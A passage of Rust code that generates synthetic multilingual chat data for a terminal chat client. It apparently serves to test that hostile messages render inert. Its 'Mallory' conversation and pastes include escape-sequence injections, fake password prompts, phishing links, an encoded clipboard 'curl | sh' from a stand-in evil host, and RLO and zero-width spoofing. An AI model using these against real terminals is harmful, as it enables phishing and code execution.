        Lang::Zh => &ZH,
        Lang::Ja => &JA,
        Lang::Ar => &AR,
        Lang::He => &HE,
        Lang::Ko => &KO,
    }
}

/// How team members are called in text.
const NICKNAMES: &[&str] = &[
    "Li Wei",
    "Yuki",
    "Sarah",
    "Omar",
    "Noa",
    "Minjun",
    "@li.wei",
    "@sarah.chen",
    "@tanaka_yuki",
];

/// Multi-line pastes: logs, panics, snippets.
const SNIPPETS: &[&str] = &[
    "thread 'main' panicked at src/tui/history.rs:{n}:9:\nindex out of bounds: the len is {n} but the index is {h}\nnote: run with `RUST_BACKTRACE=1` environment variable to display a backtrace",
    "```\n$ roam history team-roam --limit 50\nerror: 429 reach_limit: This request has reached api limit\n```\nretrying with backoff now",
    "```rust\nlet page = client.history(&query).await?;\nif page.is_last {\n    self.at_beginning = true;\n}\n```\nis this enough or do we also need the cursor check?",
    "test result: FAILED. {n} passed; 1 failed; 0 ignored\n\nfailures:\n    tui::history::tests::prepend_keeps_anchor",
    "SELECT count(*) FROM messages WHERE conversation = 'team-roam';\n-- {n}ms on the laptop, too slow?",
    "steps to repro:\n1. open {c}\n2. resize the terminal to 40 columns\n3. scroll up fast\n\nexpected: no flicker\nactual: the last line is drawn twice",
];

const URLS: &[&str] = &[
    "https://github.com/roam-chat/roam/pull/{n}",
    "https://github.com/roam-chat/roam/issues/{n}",
    "see https://ci.roam.example/builds/{n} for the log",
    "https://docs-im.easemob.com/ccim/rest/message",
    "docs: https://docs.agora.io/en/agora-chat/restful-api/message-management",
    "https://www.unicode.org/reports/tr9/ explains the bidi mess",
    "https://crates.io/crates/unicode-width",
    "slides: https://drive.roam.example/d/{n}/retro?usp=sharing",
];

impl Gen {
    /// Fills `{c}`, `{c2}`, `{n}`, `{h}`, `{pct}`, `{p}`, `{v}`, `{city}` in a template.
    fn fill(&mut self, template: &str, b: &Phrasebook) -> String {
        let mut out = String::with_capacity(template.len() + 16);
        let mut rest = template;
        while let Some(open) = rest.find('{') {
            out.push_str(&rest[..open]);
            let Some(close) = rest[open..].find('}') else {
                break;
            };
            let key = &rest[open + 1..open + close];
            match key {
                "c" | "c2" => out.push_str(self.rng.pick(b.components)),
                "n" => out.push_str(&self.rng.range(12, 2400).to_string()),
                "h" => out.push_str(&self.rng.range(2, 11).to_string()),
                "pct" => out.push_str(&self.rng.range(3, 60).to_string()),
                "p" => out.push_str(self.rng.pick(NICKNAMES)),
                "city" => out.push_str(self.rng.pick(b.cities)),
                "v" => {
                    let minor = self.rng.range(1, 24);
                    let patch = self.rng.range(0, 5);
                    out.push_str(&format!("v0.{minor}.{patch}"));
                }
                other => {
                    out.push('{');
                    out.push_str(other);
                    out.push('}');
                }
            }
            rest = &rest[open + close + 1..];
        }
        out.push_str(rest);
        out
    }

    /// One chat line in a language.
    fn sentence(&mut self, lang: Lang) -> String {
        let b = book(lang);
        let r = self.rng.below(100);
        if r < 32 {
            return self.rng.pick(b.reactions).to_string();
        }
        if r < 93 {
            let opener = self.rng.pick(b.openers);
            let body = self.rng.pick(b.bodies);
            let closer = self.rng.pick(b.closers);
            let mut s = String::from(opener);
            s.push_str(&self.fill(body, b));
            if r >= 85 {
                s.push_str(b.joiner);
                let second = self.rng.pick(b.bodies);
                s.push_str(&self.fill(second, b));
            }
            s.push_str(closer);
            return s;
        }
        if r < 97 {
            let url = self.rng.pick(URLS);
            return self.fill(url, b);
        }
        let snippet = self.rng.pick(SNIPPETS);
        self.fill(snippet, &EN)
    }
}

// ---------------------------------------------------------------------------------------
// Long texts
// ---------------------------------------------------------------------------------------

const LONG_EN: &str = "Retro notes for this sprint, so they don't get lost in the scrollback.

What went well: the history pager finally keeps its anchor when an older page is prepended, and nobody saw the jump in the demo. The import of the hourly export files is idempotent now, so running it twice is harmless. Review turnaround was under a day for most PRs.

What didn't: we lost two days to a flaky pty test that turned out to be a race between the resize event and the first frame. The conversation list still refetches too often when the terminal is resized, and we hit the 5-calls-per-minute limit on the staging deployment twice.

Action items:
1. Debounce resize before asking for the list again.
2. Make the pty test wait for the first full frame instead of sleeping.
3. Document the rate limits in the README, with the exact error text.

Thanks everyone, this was a good one. 🙌🏻";

const LONG_ZH: &str = "本周工作小结：

一、已完成
1. 历史消息分页改为基于游标，不再依赖返回条数判断是否到头；
2. 导入工具支持 .gz 和普通文本两种格式，重复导入不会产生重复消息；
3. 修复了表情符号（比如 👩‍👩‍👧‍👦 和 🏳️‍🌈）在窄终端下宽度计算错误的问题。

二、进行中
1. 会话列表的置顶和标记显示，预计周三提测；
2. 从右到左文字（阿拉伯语、希伯来语）的显示，还需要和 Sarah 确认设计。

三、风险
测试环境的限流比较严格，会话列表每分钟只能调 5 次，自动化测试需要加退避重试。

下周计划：完成置顶和标记，补齐伪终端测试，周五发 v0.9。有问题随时找我 🙏";

const LONG_JA: &str = "本日の定例の議事録です。

1. リリース計画
来週金曜日にv0.9をリリース予定です。ブロッカーは会話一覧のページングのみで、李さんが対応中です。

2. 不具合
・絵文字の幅がWindows Terminalでずれる件、unicode-widthのバージョンを上げて解消しました。
・長いメッセージ（200KB以上）でスクロールが重くなる件は、折り返し結果をキャッシュすることで対応します。

3. その他
東京オフィスの引っ越しに伴い、来週は出社できない日があります。ご迷惑をおかけしますが、よろしくお願いいたします🙇‍♀️";

const LONG_AR: &str = "مرحباً بالجميع،

أردت أن أشارك ملخص اجتماع اليوم مع العميل في دبي. هم يستخدمون Agora Chat منذ سنتين، ويحتاجون إلى تصفح سجل المحادثات من الطرفية بسرعة.

النقاط الرئيسية:
١. يريدون دعم النص العربي من اليمين إلى اليسار بشكل صحيح، خاصة عندما يختلط مع أرقام مثل 2024 أو كلمات إنجليزية مثل roam.
٢. حجم السجل كبير: أكثر من مليون رسالة في بعض المجموعات.
٣. يفضلون أن تبقى كلمة المرور خارج ملف الإعدادات.

سأرسل المحضر الكامل غداً إن شاء الله. 🙏🏽";

const LONG_HE: &str = "היי לכולם,

סיכום קצר של הבדיקות שעשיתי היום על התצוגה של עברית בטרמינל. ברוב המקרים הטקסט מוצג נכון, אבל כשמשפט מתחיל במילה באנגלית כמו roam או מספר כמו 3.14, הסדר של המילים מתבלבל.

מה בדקתי:
- iTerm2 ו-Terminal.app במק
- Windows Terminal
- GNOME Terminal עם גופן Noto

המלצה: לא לנסות לסדר בעצמנו את הטקסט, אלא להשאיר את זה לטרמינל ולוודא שאין תווי כיווניות (כמו U+202E) שמגיעים מהשרת בלי סינון.

נדבר מחר בסטנדאפ 👋🏼";

const LONG_REVIEW: &str = "Finished \"The Three-Body Problem\" (三体) last night, finally.

The first third is slow, and I almost gave up during the game chapters. But the moment the countdown appears on the photographs, I could not put it down. Liu Cixin writes physics the way other authors write villains.

What stayed with me is not the aliens but the Cultural Revolution chapters at the start: Ye Wenjie's choice makes a terrible kind of sense once you have read them. I think the book is really about despair and what people do with it.

Translation notes for whoever reads it in English: Ken Liu's footnotes are worth reading, they explain a lot of the historical context.

Next month's pick is on me. Suggestions: \"Klara and the Sun\", \"Piranesi\", or \"コンビニ人間\" (Convenience Store Woman). Vote with emoji: 🤖 🏛️ 🏪";

// ---------------------------------------------------------------------------------------
// Random content of any kind
// ---------------------------------------------------------------------------------------

const IMAGE_DIMENSIONS: &[(u32, u32)] = &[
    (4032, 3024),
    (3024, 4032),
    (1170, 2532),
    (2880, 1800),
    (1920, 1080),
    (750, 1334),
    (1284, 2778),
    (1080, 1080),
];
const GIFS: &[&str] = &[
    "party-parrot.gif",
    "this-is-fine.gif",
    "typing-cat.gif",
    "ship-it.gif",
    "facepalm.gif",
    "拍手.gif",
];
const FILES: &[(&str, &str)] = &[
    ("roam-design-v", ".pdf"),
    ("crash-", ".log"),
    ("bench-results-", ".csv"),
    ("Q3 roadmap ", ".xlsx"),
    ("meeting-notes-", ".docx"),
    ("会议纪要-", ".docx"),
    ("議事録_", ".pdf"),
    ("export-", ".zip"),
    ("roam-0.", ".0-x86_64-unknown-linux-gnu.tar.gz"),
    ("heap-profile-", ".json"),
];
const COMMANDS: &[&str] = &[
    "TypingBegin",
    "TypingEnd",
    "event_refresh_group",
    "sync_read_marker",
    "em_conversation_pin",
];
const PLACES: &[(&str, f64, f64, &str)] = &[
    (
        "北京市海淀区中关村大街27号",
        39.9834,
        116.3162,
        "中关村大厦",
    ),
    (
        "東京都渋谷区道玄坂1丁目2-3",
        35.6585,
        139.6987,
        "渋谷フクラス",
    ),
    (
        "上海市浦东新区世纪大道100号",
        31.2347,
        121.5075,
        "上海环球金融中心",
    ),
    (
        "Sheikh Mohammed bin Rashid Blvd, Dubai",
        25.1972,
        55.2744,
        "Burj Khalifa",
    ),
    (
        "Rothschild Blvd 22, Tel Aviv",
        32.0636,
        34.7731,
        "Rothschild 22",
    ),
    (
        "Alexanderplatz 1, 10178 Berlin",
        52.5219,
        13.4132,
        "Berlin Fernsehturm",
    ),
];

impl Gen {
    /// A message of any kind, mostly short text. `t` is its time, for file names.
    fn any_content(&mut self, lang: Lang, t: i64) -> Content {
        let r = self.rng.below(10_000);
        let (y, mo, d, h, mi, s) = local_parts(t);
        match r {
            0..180 => {
                let (w, hgt) = self.rng.pick(IMAGE_DIMENSIONS);
                let len = self.rng.range(80_000, 4_500_000) as u64;
                let name = match self.rng.below(4) {
                    0 => format!("IMG_{:04}.jpg", self.rng.range(1, 9999)),
                    1 => format!("Screenshot {y}-{mo:02}-{d:02} at {h:02}.{mi:02}.{s:02}.png"),
                    2 => format!("微信图片_{y}{mo:02}{d:02}{h:02}{mi:02}{s:02}.jpg"),
                    _ => "image.png".to_string(),
                };
                self.image(&name, w, hgt, len)
            }
            180..220 => {
                let name = self.rng.pick(GIFS);
                let len = self.rng.range(200_000, 2_000_000) as u64;
                self.gif(name, 320, 240, len)
            }
            220..290 => {
                let (stem, ext) = self.rng.pick(FILES);
                let name = format!("{stem}{}{ext}", self.rng.range(1, 40));
                let len = self.rng.range(3_000, 48_000_000) as u64;
                self.file(&name, len)
            }
            290..350 => {
                let secs = self.rng.range(1, 60) as u32;
                self.audio(secs)
            }
            350..380 => {
                let secs = self.rng.range(3, 180) as u32;
                let (w, hgt) = if self.rng.chance(500) {
                    (1920, 1080)
                } else {
                    (1080, 1920)
                };
                let len = u64::from(secs) * self.rng.range(300_000, 1_200_000) as u64;
                let name = format!("VID_{y}{mo:02}{d:02}_{h:02}{mi:02}{s:02}.mp4");
                self.video(&name, secs, w, hgt, len)
            }
            380..390 => {
                let (addr, lat, lng, building) = self.rng.pick(PLACES);
                location(addr, lat, lng, Some(building))
            }
            390..410 => command(self.rng.pick(COMMANDS)),
            410..440 => self.any_custom(),
            440..450 => {
                let a = self.sentence(lang);
                let b = self.sentence(lang);
                self.combined(
                    "Chat history of the on-call channel",
                    &format!("li.wei: {a}\nsarah.chen: {b}"),
                    1,
                )
            }
            450..462 => text_of(match lang {
                Lang::Zh => LONG_ZH,
                Lang::Ja => LONG_JA,
                Lang::Ar => LONG_AR,
                Lang::He => LONG_HE,
                Lang::En | Lang::Ko => LONG_EN,
            }),
            _ => Content::Text {
                text: self.sentence(lang),
            },
        }
    }

    fn any_custom(&mut self) -> Content {
        match self.rng.below(4) {
            0 => custom(
                "poll",
                vec![
                    ("question", "Lunch: noodles or sushi?".into()),
                    (
                        "options",
                        Value::Array(vec!["🍜 noodles".into(), "🍣 sushi".into()]),
                    ),
                    ("votes", Value::from(self.rng.range(0, 7))),
                ],
            ),
            1 => custom(
                "sticker",
                vec![
                    ("pack", "roam-cats".into()),
                    ("name", "flower".into()),
                    ("id", Value::from(self.rng.range(1, 48))),
                ],
            ),
            2 => custom(
                "calendar_invite",
                vec![
                    ("title", "Sprint planning".into()),
                    ("start", "2024-05-06T10:00:00+08:00".into()),
                    ("duration_min", Value::from(60)),
                ],
            ),
            _ => custom(
                "ci_status",
                vec![
                    ("pipeline", Value::from(self.rng.range(1000, 99_999))),
                    ("status", "failed".into()),
                    ("branch", "main".into()),
                ],
            ),
        }
    }
}

// ---------------------------------------------------------------------------------------
// Chatter: random conversation over a period with a realistic rhythm
// ---------------------------------------------------------------------------------------

/// A speaker in chatter: who, what languages (weights), how chatty, and when present.
struct Speaker {
    id: &'static str,
    langs: &'static [(Lang, u32)],
    weight: u32,
    from: i64,
    until: i64,
}

/// Activity by local hour (UTC+8) on a working day.
const HOUR_WEIGHTS: [u32; 24] = [
    3, 1, 0, 0, 0, 0, 0, 1, 4, 9, 12, 12, 5, 7, 12, 12, 11, 9, 4, 3, 5, 6, 5, 4,
];

/// Days off: Chinese New Year, National Day and the year end, as (month, day, length).
fn is_holiday(y: i64, m: i64, d: i64) -> bool {
    let new_year = match y {
        2022 => (2, 1),
        2023 => (1, 22),
        2024 => (2, 10),
        2025 => (1, 29),
        _ => (2, 1),
    };
    let day = days_from_civil(y, m, d);
    let cny = days_from_civil(y, new_year.0, new_year.1);
    (cny - 1..cny + 6).contains(&day)
        || (m == 10 && d <= 7)
        || (m == 12 && d >= 24)
        || (m == 1 && d == 1)
}

impl Gen {
    /// Random chatter in a conversation from `start` to `end` (ms): about `per_100_days`
    /// messages per hundred working days, in bursts, fewer on weekends and holidays.
    fn chatter(
        &mut self,
        th: &Thread,
        speakers: &[Speaker],
        start: i64,
        end: i64,
        per_100_days: u64,
    ) {
        let first_day = (start + LOCAL_OFFSET_MS).div_euclid(DAY);
        let last_day = (end + LOCAL_OFFSET_MS).div_euclid(DAY);
        for day in first_day..=last_day {
            let (y, m, d) = civil_from_days(day);
            let weekday = (day + 4).rem_euclid(7); // 0 = Sunday
            // In hundredths of a message, rounded at random at the end.
            let mut target = per_100_days;
            if weekday == 0 || weekday == 6 {
                target = target * 12 / 100;
            }
            if is_holiday(y, m, d) {
                target = target * 8 / 100;
            }
            // Busy days (incidents, releases) and quiet ones.
            let mood = self.rng.below(100);
            if mood < 4 {
                target *= 3;
            } else if mood < 12 {
                target /= 3;
            }
            target = target * self.rng.range(60, 140) as u64 / 100;
            let target = target / 100 + u64::from(self.rng.below(100) < target % 100);
            let mut posted = 0u64;
            let mut attempts = 0;
            while posted < target && attempts < 4 * target + 8 {
                attempts += 1;
                let hour = self.rng.weighted(&HOUR_WEIGHTS) as i64;
                let mut t = day * DAY - LOCAL_OFFSET_MS
                    + hour * HOUR
                    + self.rng.range(0, 59) * MINUTE
                    + self.rng.range(0, 59_999);
                // A burst: a few people talking back and forth.
                let len = match self.rng.below(10) {
                    0..4 => self.rng.range(1, 4),
                    4..8 => self.rng.range(4, 14),
                    _ => self.rng.range(14, 45),
                } as u64;
                let len = len.min(target - posted);
                let present: Vec<&Speaker> = speakers
                    .iter()
                    .filter(|s| s.from <= t && t < s.until)
                    .collect();
                if present.is_empty() {
                    break;
                }
                let weights: Vec<u32> = present.iter().map(|s| s.weight).collect();
                let mut cast = [0usize; 3];
                for slot in &mut cast {
                    *slot = self.rng.weighted(&weights);
                }
                let mut last = usize::MAX;
                for _ in 0..len {
                    if t < start || t > end {
                        break;
                    }
                    let mut who = cast[self.rng.below(3) as usize];
                    if who == last && self.rng.chance(600) {
                        who = self.rng.weighted(&weights);
                    }
                    last = who;
                    let speaker = present[who];
                    let langs: Vec<u32> = speaker.langs.iter().map(|l| l.1).collect();
                    let lang = speaker.langs[self.rng.weighted(&langs)].0;
                    let content = self.any_content(lang, t);
                    let ext = match &content {
                        Content::Text { text } if text.contains("@li.wei") => mention(&["li.wei"]),
                        Content::Text { text } if text.contains("@sarah.chen") => {
                            mention(&["sarah.chen"])
                        }
                        _ => Map::new(),
                    };
                    self.push(th.id, th.kind, t, speaker.id, content, ext);
                    posted += 1;
                    // Mostly quick replies, sometimes a pause, rarely the same millisecond.
                    t += match self.rng.below(100) {
                        0 => 0,
                        1..70 => self.rng.range(2 * SECOND, 50 * SECOND),
                        70..95 => self.rng.range(50 * SECOND, 4 * MINUTE),
                        _ => self.rng.range(4 * MINUTE, 25 * MINUTE),
                    };
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// The big group
// ---------------------------------------------------------------------------------------

const ALWAYS: i64 = i64::MAX;

fn big_team(g: &mut Gen) {
    g.reseed(1);
    let th = Thread::new(BIG_CONVERSATION, ChatType::Group, 0);
    let start = local(2022, 1, 3, 0, 0);
    let end = local(2025, 6, 30, 1, 0);
    // The demo user went on holiday on 2025-06-16: everything after is unread.
    let holiday = local(2025, 6, 16, 0, 0);
    let speakers = [
        Speaker {
            id: "li.wei",
            langs: &[(Lang::Zh, 70), (Lang::En, 30)],
            weight: 22,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "tanaka_yuki",
            langs: &[(Lang::Ja, 70), (Lang::En, 30)],
            weight: 15,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "sarah.chen",
            langs: &[(Lang::En, 85), (Lang::Zh, 15)],
            weight: 18,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "omar.haddad",
            langs: &[(Lang::En, 60), (Lang::Ar, 40)],
            weight: 12,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "noa.levi",
            langs: &[(Lang::En, 60), (Lang::He, 40)],
            weight: 12,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: "kim.minjun",
            langs: &[(Lang::En, 70), (Lang::Ko, 30)],
            weight: 9,
            from: local(2023, 3, 6, 0, 0),
            until: ALWAYS,
        },
        Speaker {
            id: "alex.wright",
            langs: &[(Lang::En, 100)],
            weight: 10,
            from: 0,
            until: local(2023, 8, 31, 18, 0),
        },
        Speaker {
            id: DEMO_USER,
            langs: &[(Lang::En, 80), (Lang::Zh, 10), (Lang::Ja, 10)],
            weight: 14,
            from: 0,
            until: holiday,
        },
    ];
    g.chatter(&th, &speakers, start, end, 11_500);

    // A few hostile pastes among the ordinary ones.
    let mut th = Thread::new(
        BIG_CONVERSATION,
        ChatType::Group,
        local(2022, 9, 14, 10, 17),
    );
    g.txt(
        &mut th,
        "li.wei",
        "build log:\n\x1b[1;31merror[E0382]\x1b[0m: borrow of moved value: `page`\n  \x1b[1;34m-->\x1b[0m src/tui/history.rs:212:17\n\x1b[2J\x1b[Hsorry, my terminal pasted the clear-screen too 😅",
    );
    g.txt(
        &mut th,
        "sarah.chen",
        "lol your paste just cleared my screen",
    );
    let mut th = Thread::new(BIG_CONVERSATION, ChatType::Group, local(2023, 11, 2, 15, 3));
    g.txt(
        &mut th,
        "sarah.chen",
        "release notes: \x1b]8;;https://phish.roam.example/login\x1b\\https://github.com/roam-chat/roam/releases\x1b]8;;\x1b\\",
    );
    g.txt(
        &mut th,
        "noa.levi",
        "careful, that link does not go where it says",
    );
    let mut th = Thread::new(
        BIG_CONVERSATION,
        ChatType::Group,
        local(2024, 7, 19, 11, 40),
    );
    let rlo = g.file("release-notes_\u{202e}txt.exe", 73_728);
    g.say(&mut th, "kim.minjun", rlo);
    g.txt(
        &mut th,
        "omar.haddad",
        "that \"txt\" is an exe, the name has a U+202E in it \u{202e} don't open it",
    );
    let mut th = Thread::new(
        BIG_CONVERSATION,
        ChatType::Group,
        local(2025, 2, 11, 16, 22),
    );
    g.txt(
        &mut th,
        "omar.haddad",
        "the staging key is deploy\u{200b}-\u{200b}key\u{feff} (copy it from here, not from the wiki)",
    );
    g.txt(
        &mut th,
        "li.wei",
        "there are zero-width spaces in that, copy failed",
    );
}

// ---------------------------------------------------------------------------------------
// Single chats
// ---------------------------------------------------------------------------------------

fn single_li_wei(g: &mut Gen) {
    g.reseed(2);
    let th = Thread::new("li.wei", ChatType::Single, 0);
    let speakers = [
        Speaker {
            id: "li.wei",
            langs: &[(Lang::Zh, 80), (Lang::En, 20)],
            weight: 10,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: DEMO_USER,
            langs: &[(Lang::Zh, 50), (Lang::En, 50)],
            weight: 9,
            from: 0,
            until: ALWAYS,
        },
    ];
    g.chatter(
        &th,
        &speakers,
        local(2022, 3, 1, 0, 0),
        local(2025, 6, 20, 0, 0),
        160,
    );
    let mut th = Thread::new("li.wei", ChatType::Single, local(2023, 5, 20, 22, 30));
    g.txt(&mut th, "li.wei", "周末一起去爬香山吗？天气预报说是晴天☀️");
    g.txt(&mut th, DEMO_USER, "好啊！几点集合？");
    g.txt(&mut th, "li.wei", "早上八点，东门见");
    g.say(
        &mut th,
        "li.wei",
        location(
            "北京市海淀区买卖街40号",
            39.9929,
            116.1884,
            Some("香山公园东门"),
        ),
    );
    g.txt(&mut th, DEMO_USER, "👌🏻 到时候见");
    let mut th = Thread::new("li.wei", ChatType::Single, local(2023, 5, 21, 13, 5));
    let photo = g.image("IMG_2051.jpg", 4032, 3024, 3_482_113);
    g.say(&mut th, "li.wei", photo);
    g.txt(&mut th, "li.wei", "山顶的风景太好了！下次叫上 Sarah 一起");
    let voice = g.audio(14);
    g.say(&mut th, DEMO_USER, voice);
    let mut th = Thread::new("li.wei", ChatType::Single, local(2025, 6, 24, 23, 48));
    g.txt(&mut th, "li.wei", LONG_ZH);
    g.txt(
        &mut th,
        "li.wei",
        "顺便看下这个 PR：https://github.com/roam-chat/roam/pull/1872 🙏",
    );
}

fn single_tanaka(g: &mut Gen) {
    g.reseed(3);
    let mut th = Thread::new("tanaka_yuki", ChatType::Single, local(2024, 2, 14, 10, 2));
    g.txt(
        &mut th,
        "tanaka_yuki",
        "おはようございます！来月の東京出張、日程決まりましたか？",
    );
    g.txt(&mut th, DEMO_USER, "Good morning! 4月8日から12日の予定です");
    g.txt(
        &mut th,
        "tanaka_yuki",
        "了解です！オフィスの場所を送りますね",
    );
    g.say(
        &mut th,
        "tanaka_yuki",
        location(
            "東京都渋谷区道玄坂1丁目2-3",
            35.6585,
            139.6987,
            Some("渋谷フクラス 12F"),
        ),
    );
    let gif = g.gif("よろしくお願いします.gif", 480, 270, 1_204_333);
    g.say(&mut th, "tanaka_yuki", gif);
    g.txt(&mut th, DEMO_USER, "ありがとうございます🙇‍♂️");
    let mut th = Thread::new("tanaka_yuki", ChatType::Single, local(2024, 4, 9, 19, 30));
    let sticker = custom(
        "sticker",
        vec![
            ("pack", "roam-cats".into()),
            ("name", "kanpai".into()),
            ("id", Value::from(17)),
        ],
    );
    g.say(&mut th, "tanaka_yuki", sticker);
    g.txt(
        &mut th,
        "tanaka_yuki",
        "乾杯🍻 今日はありがとうございました！",
    );
    g.txt(&mut th, DEMO_USER, "Thank you for the great dinner! 🍣🍶");
    let mut th = Thread::new("tanaka_yuki", ChatType::Single, local(2025, 6, 27, 18, 12));
    g.txt(&mut th, DEMO_USER, "議事録ありがとうございました");
    g.txt(&mut th, "tanaka_yuki", LONG_JA);
}

fn single_sarah(g: &mut Gen) {
    g.reseed(4);
    let th = Thread::new("sarah.chen", ChatType::Single, 0);
    let speakers = [
        Speaker {
            id: "sarah.chen",
            langs: &[(Lang::En, 90), (Lang::Zh, 10)],
            weight: 10,
            from: 0,
            until: ALWAYS,
        },
        Speaker {
            id: DEMO_USER,
            langs: &[(Lang::En, 100)],
            weight: 10,
            from: 0,
            until: ALWAYS,
        },
    ];
    g.chatter(
        &th,
        &speakers,
        local(2022, 6, 1, 0, 0),
        local(2025, 6, 1, 0, 0),
        90,
    );
    let mut th = Thread::new("sarah.chen", ChatType::Single, local(2025, 6, 25, 14, 0));
    let mock = g.image("conversation-list-v3.png", 2880, 1800, 1_823_551);
    g.say(&mut th, "sarah.chen", mock);
    let spec = g.file("roam-tui-spec-v3.pdf", 4_812_003);
    g.say(&mut th, "sarah.chen", spec);
    let rec = g.video("screen-recording-scroll.mov", 42, 2880, 1800, 28_339_112);
    g.say(&mut th, "sarah.chen", rec);
    g.txt(&mut th, "sarah.chen", LONG_EN);
    g.txt(
        &mut th,
        DEMO_USER,
        "Love it. One question: should pinned conversations show a 📌 or just sort first?\n\nAlso: the unread badge caps at 99+, right?",
    );
    g.txt(&mut th, "sarah.chen", "both 📌 and first. and yes, 99+ 👍🏻");
}

fn single_omar(g: &mut Gen) {
    g.reseed(5);
    let mut th = Thread::new("omar.haddad", ChatType::Single, local(2024, 11, 3, 20, 15));
    g.txt(&mut th, "omar.haddad", "مرحبا! كيف حالك؟");
    g.txt(
        &mut th,
        DEMO_USER,
        "مرحبا عمر! I'm good, still learning Arabic 😄",
    );
    g.txt(
        &mut th,
        "omar.haddad",
        "ممتاز! الاجتماع مع العميل يوم 12 نوفمبر الساعة 10:30 في Dubai Marina",
    );
    g.say(
        &mut th,
        "omar.haddad",
        location(
            "Dubai Marina Walk, Dubai, الإمارات العربية المتحدة",
            25.0805,
            55.1403,
            Some("مارينا مول"),
        ),
    );
    let mut th = Thread::new("omar.haddad", ChatType::Single, local(2025, 6, 28, 9, 5));
    g.txt(&mut th, DEMO_USER, "How did the meeting go?");
    g.txt(&mut th, "omar.haddad", LONG_AR);
    let voice = g.audio(37);
    g.say(&mut th, "omar.haddad", voice);
    g.txt(
        &mut th,
        "omar.haddad",
        "النسخة roam v0.9 تعمل بشكل جيد مع 1,200,000 رسالة 🚀",
    );
    g.txt(&mut th, "omar.haddad", "شكراً جزيلاً 🙏🏽");
    let doc = g.file("محضر_الاجتماع_دبي.pdf", 812_944);
    g.say(&mut th, "omar.haddad", doc);
}

fn single_noa(g: &mut Gen) {
    g.reseed(6);
    let mut th = Thread::new("noa.levi", ChatType::Single, local(2025, 3, 9, 11, 0));
    g.txt(&mut th, "noa.levi", "שלום! מה שלומך?");
    g.txt(&mut th, DEMO_USER, "שלום Noa! All good, you?");
    g.txt(
        &mut th,
        "noa.levi",
        "הפגישה ב-10:30 ב-Zoom, הקישור: https://zoom.us/j/8123456789",
    );
    g.txt(&mut th, "noa.levi", LONG_HE);
    let shot = g.image("rtl-test-gnome-terminal.png", 1920, 1080, 402_117);
    g.say(&mut th, "noa.levi", shot);
    g.txt(&mut th, DEMO_USER, "Thanks, this is super helpful 🙏");
    g.txt(&mut th, "noa.levi", "בשמחה! 😊");
}

fn single_mom(g: &mut Gen) {
    g.reseed(7);
    let mut th = Thread::new("wang.mei", ChatType::Single, local(2024, 9, 16, 19, 2));
    g.txt(&mut th, "wang.mei", "中秋节回来吃饭吗？🥮");
    let v = g.audio(23);
    g.say(&mut th, "wang.mei", v);
    g.txt(&mut th, DEMO_USER, "回来！想吃妈妈做的红烧肉 😋");
    g.txt(&mut th, "wang.mei", "好嘞👍🏻");
    let mut th = Thread::new("wang.mei", ChatType::Single, local(2025, 6, 29, 8, 10));
    g.txt(&mut th, "wang.mei", "早上好☀️ 记得吃早饭");
    let v = g.audio(52);
    g.say(&mut th, "wang.mei", v);
    let photo = g.image("微信图片_20250629081233.jpg", 1080, 1440, 288_331);
    g.say(&mut th, "wang.mei", photo);
}

fn single_bot(g: &mut Gen) {
    g.reseed(8);
    let mut th = Thread::new("roam-bot", ChatType::Single, local(2025, 6, 18, 9, 0));
    g.txt(&mut th, DEMO_USER, "/subscribe ci");
    g.say(&mut th, "roam-bot", command("subscribe_ack"));
    for i in 0..14 {
        th.t = local(2025, 6, 18, 9, 30) + i * 17 * HOUR;
        let pipeline = 48_100 + i * 7;
        let status = if i % 4 == 3 { "failed" } else { "passed" };
        let event = custom(
            "ci_status",
            vec![
                ("branch", "main".into()),
                ("pipeline", Value::from(pipeline)),
                ("status", status.into()),
                (
                    "url",
                    format!("https://ci.roam.example/builds/{pipeline}").into(),
                ),
            ],
        );
        g.say(&mut th, "roam-bot", event);
        if i % 4 == 3 {
            g.say(&mut th, "roam-bot", command("em_notify_badge"));
        }
    }
    let digest = g.combined(
        "CI digest: week 25",
        "roam-bot: pipeline 48100 passed\nroam-bot: pipeline 48121 failed\nroam-bot: pipeline 48128 passed",
        2,
    );
    g.say(&mut th, "roam-bot", digest);
}

/// The conversation of hostile text. Every line here must reach the screen inert.
fn single_mallory(g: &mut Gen) {
    g.reseed(9);
    let m = HOSTILE_CONVERSATION;
    let mut th = Thread::new(m, ChatType::Single, local(2025, 4, 1, 3, 14));
    g.txt(&mut th, m, "hi! I have a few messages for your terminal 😈");
    g.txt(&mut th, DEMO_USER, "uh oh");
    g.txt(
        &mut th,
        m,
        "\x1b[2J\x1b[HYour session has expired.\nPlease re-enter your password:",
    );
    g.txt(&mut th, m, "\x1b]0;pwned\x07the window title just changed");
    g.txt(
        &mut th,
        m,
        "\x1b[?1049lleaving the alternate screen mid-frame\x1b[?25l(and hiding the cursor)",
    );
    g.txt(
        &mut th,
        m,
        "click: \x1b]8;;https://evil.roam.example/steal\x1b\\https://github.com/roam-chat/roam\x1b]8;;\x1b\\",
    );
    g.txt(
        &mut th,
        m,
        "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwucm9hbS5leGFtcGxlL3ggfCBzaA==\x07your clipboard now holds a curl | sh",
    );
    g.txt(
        &mut th,
        m,
        "\u{9b}31mred through an 8-bit CSI\u{9b}0m and a\u{85}next line (NEL) and \u{9d}0;osc-c1\u{9c}",
    );
    g.txt(
        &mut th,
        m,
        "\x1b[6n\x1b[21t\x1bP+q544e\x1b\\ terminal, please answer back",
    );
    g.txt(
        &mut th,
        m,
        "carriage\roverwrite, back\x08\x08\x08space, bell\x07, delete\x7f, nul\0, tab\there",
    );
    g.txt(
        &mut th,
        m,
        "please open report_\u{202e}txt.exe, it's just text",
    );
    let rlo = g.file("report_\u{202e}txt.exe", 1_337_000);
    g.say(&mut th, m, rlo);
    g.txt(
        &mut th,
        m,
        "if is_admin\u{2067}\u{2066} // check access\u{2069}\u{2069} { grant() } \u{2068}فقط\u{2069} \u{202d}LRO\u{202c} \u{202a}LRE\u{202c} \u{202b}RLE\u{202c} \u{200f}RLM \u{200e}LRM",
    );
    g.txt(
        &mut th,
        m,
        "log in at pay\u{200b}pal.com as ad\u{200b}min\u{200c}\u{200d}\u{2060}\u{feff}",
    );
    g.txt(
        &mut th,
        m,
